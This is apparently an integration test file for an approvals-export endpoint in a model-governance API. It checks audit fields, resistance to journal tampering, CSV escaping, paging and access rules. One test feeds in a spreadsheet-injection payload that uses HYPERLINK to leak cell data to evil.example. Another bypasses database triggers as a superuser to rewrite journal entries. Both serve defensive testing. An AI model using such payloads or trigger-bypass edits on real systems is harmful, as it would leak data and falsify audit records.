import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApprovalView } from '../../api/schemas/approval-view.ts';
import type { JournalEntryView } from '../../api/schemas/views.ts';
import { appendEntries } from '../../db/queries/journal.ts';
import type { NewEntry } from '../../domain/journal.ts';
import { openApi, type Api, type PlantedReview } from '../support/api.ts';
import { superuserUrlOf } from '../support/plant-journal.ts';

let api: Api;
beforeAll(async () => {
  api = await openApi();
});
afterAll(() => api.close());

const path = '/v1/approvals/export';
const dayAhead = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
const read = (query = '', as = 'auditor') =>
  api.read<{ from: string; to: string; items: ApprovalView[] }>(`${path}?to=${dayAhead(1)}${query}`, as);
const of = (items: readonly ApprovalView[], { modelVersionId }: PlantedReview) =>
  items.filter((item) => item.modelVersionId === modelVersionId);

/** Somebody whom neither rights nor triggers hold back. */
async function asIntruder(sql: string, stream: string): Promise<void> {
  const client = new pg.Client({ connectionString: superuserUrlOf(api.databaseUrls) });
  await client.connect();
  try {
    await client.query('SET session_replication_role = replica');
    await client.query(sql, [stream]);
  } finally {
    await client.end();
  }
}

describe('the export of approvals', () => {
  it('says who approved which version, on what evidence, when, and which entry proves it', async () => {
    const [approved, rejected] = [await api.plantReview(), await api.plantReview()];
    const conditions = [{ text: 'Monitoring is set up', owner: 'data-scientist-1', dueAt: dayAhead(9) }];
    expect((await api.decideOn(approved, 'validator-1', { form: { conditions } })).status).toBe(201);
    await api.decideOn(rejected, 'validator-1', { outcome: 'REJECTED' });
    const { items } = await read();
    expect(of(items, rejected)).toEqual([]);
    const [item, ...others] = of(items, approved);
    expect(others).toEqual([]);
    expect(item).toMatchObject({
      by: 'validator-1',
      name: 'Vera Okafor',
      how: 'DECISION',
      model: approved.model,
      version: approved.version,
      riskTier: 'high',
      process: 'validation',
      reviewId: approved.id,
      reviewOutcome: 'APPROVED',
      evidenceDigest: approved.evidenceDigest,
      policy: { id: 'high', version: 1 },
      conditions: ['Monitoring is set up'],
      channel: 'api',
    });
    const journal = await api.read<{ items: JournalEntryView[] }>(`/v1/journal?stream=${approved.modelVersionId}&type=decision.recorded`); // prettier-ignore
    expect(journal.items).toMatchObject([{ at: item!.at, reason: item!.reason, position: item!.entry.position, hash: item!.entry.hash }]); // prettier-ignore
  });

  it('says what was hashed, whatever somebody with all rights wrote beside it', async () => {
    const review = await api.plantReview();
    expect((await api.decideOn(review, 'validator-1')).status).toBe(201);
    const [before] = of((await read()).items, review);
    await asIntruder(
      `UPDATE journal.entries SET actor_id = 'admin', at = at - interval '1 day' WHERE stream = $1 AND type = 'decision.recorded'`,
      review.modelVersionId,
    );
    expect(before).toMatchObject({ by: 'validator-1' });
    expect(of((await read()).items, review)).toEqual([before]);
  });

  it('names a broken glass, and an approval that was carried over to new evidence, as what they are', async () => {
    const review = await api.plantReview();
    const { id: reviewId, modelVersionId: stream, evidenceDigest } = review;
    const said = { reviewId, processId: review.processId, signOff: 'validation', outcome: 'APPROVED', evidenceDigest };
    const carried = {
      by: 'validator-2',
      decisionId: 'dec_carried',
      carriedFrom: 'dec_before',
      givenOn: evidenceDigest,
    };
    await api.database.withTransaction((tx) =>
      appendEntries(
        tx,
        [
          { stream, type: 'decision.carried', actor: { type: 'system', id: 'carry' }, reason: 'It stands.', data: { ...said, ...carried } },
          { stream, type: 'policy.overridden', actor: { type: 'user', id: 'admin' }, reason: 'Fire', data: { ...said, by: 'admin', channel: 'web' } },
        ],
        new Date(),
      ),
    ); // prettier-ignore
    const items = of((await read()).items, review);
    expect(items.map(({ how, by }) => `${how} ${by}`)).toEqual(['CARRIED validator-2', 'OVERRIDE admin']);
  });

  it('as a table holds no cell that a spreadsheet would run', async () => {
    const review = await api.plantReview();
    const reason = '=HYPERLINK("http://evil.example/?"&A1,"All ""fine"", see")\n+1';
    expect((await api.decideOn(review, 'validator-1', { reason })).status).toBe(201);
    const answer = await api.ask('GET', `${path}?format=csv&to=${dayAhead(1)}`, { as: 'auditor' });
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="approvals.csv"');
    const text = await answer.text();
    expect(text.startsWith('"at","by","name",')).toBe(true);
    expect(text).toContain(`"'${reason.replaceAll('"', '""').replace('+1', "'+1")}"`);
    expect(text.split('\r\n').length - 2).toBe((await read()).items.length);
  });

  it('reads on piece by piece, and ends with the span that was asked for', async () => {
    const review = await api.plantReview();
    const start = Date.parse('2020-06-01T00:00:00Z');
    const { id: reviewId, modelVersionId: stream, evidenceDigest } = review;
    const approval = (index: number): NewEntry => ({ stream, type: 'decision.recorded', actor: { type: 'user', id: 'validator-1' }, reason: `Approval ${index}`, data: { reviewId, signOff: 'validation', outcome: 'APPROVED', evidenceDigest } }); // prettier-ignore
    // More than are looked through at once; each minute a hundred of them.
    const minutes = 53;
    await api.database.withTransaction(async (tx) => {
      for (let minute = 0; minute < minutes; minute++)
        await appendEntries(tx, Array.from({ length: 100 }, (_, index) => approval(minute * 100 + index)), new Date(start + minute * 60_000)); // prettier-ignore
    });
    const [from, to] = [1, minutes - 1].map((minute) => new Date(start + minute * 60_000).toISOString());
    const { items } = await api.read<{ items: ApprovalView[] }>(`${path}?from=${from}&to=${to}`);
    expect(items.map(({ reason }) => reason)).toEqual(Array.from({ length: 5_100 }, (_, index) => `Approval ${index + 100}`)); // prettier-ignore
    expect(await api.read(`${path}?from=2020-06-02T00:00:00Z&to=2020-07-01T00:00:00Z`)).toMatchObject({ items: [] });
  });

  it('shows software what it submitted, and nothing of what others did', async () => {
    const review = await api.plantReview();
    await api.decideOn(review, 'validator-1');
    expect(of((await read('', 'pipeline')).items, review)).toHaveLength(1);
    await api.database.pool.query("UPDATE model_versions SET submitted_by = 'data-scientist-1' WHERE id = $1", [review.modelVersionId]); // prettier-ignore
    expect(of((await read('', 'pipeline')).items, review)).toEqual([]);
    expect(of((await read()).items, review)).toHaveLength(1);
    expect((await api.ask('GET', path)).status).toBe(401);
  });

  it('is journaled itself', async () => {
    const { from, to } = await read('&format=json', 'compliance-1');
    const { items } = await api.read<{ items: JournalEntryView[] }>('/v1/journal?stream=journal/exports&type=approvals.exported&order=desc'); // prettier-ignore
    expect(items[0]).toMatchObject({ actor: { type: 'user', id: 'compliance-1' }, data: { from, to, format: 'json' } });
  });

  it.each([
    ['from=2026-02-01T00:00:00Z&to=2026-02-01T00:00:00Z', '/from'],
    ['from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z', '/from'],
    ['from=yesterday', '/from'],
    ['format=xlsx', '/format'],
    ['cursor=1', '/cursor'],
  ])('of what cannot be (%s) is refused, and not journaled', async (query, pointer) => {
    const exports = async () =>
      (await api.read<{ items: unknown[] }>('/v1/journal?stream=journal/exports&limit=200')).items.length;
    const before = await exports();
    const answer = await api.ask('GET', `${path}?${query}`, { as: 'auditor' });
    expect([answer.status, await answer.json()]).toMatchObject([422, { code: 'INVALID', errors: [{ pointer }] }]);
    expect(await exports()).toBe(before);
  });
});
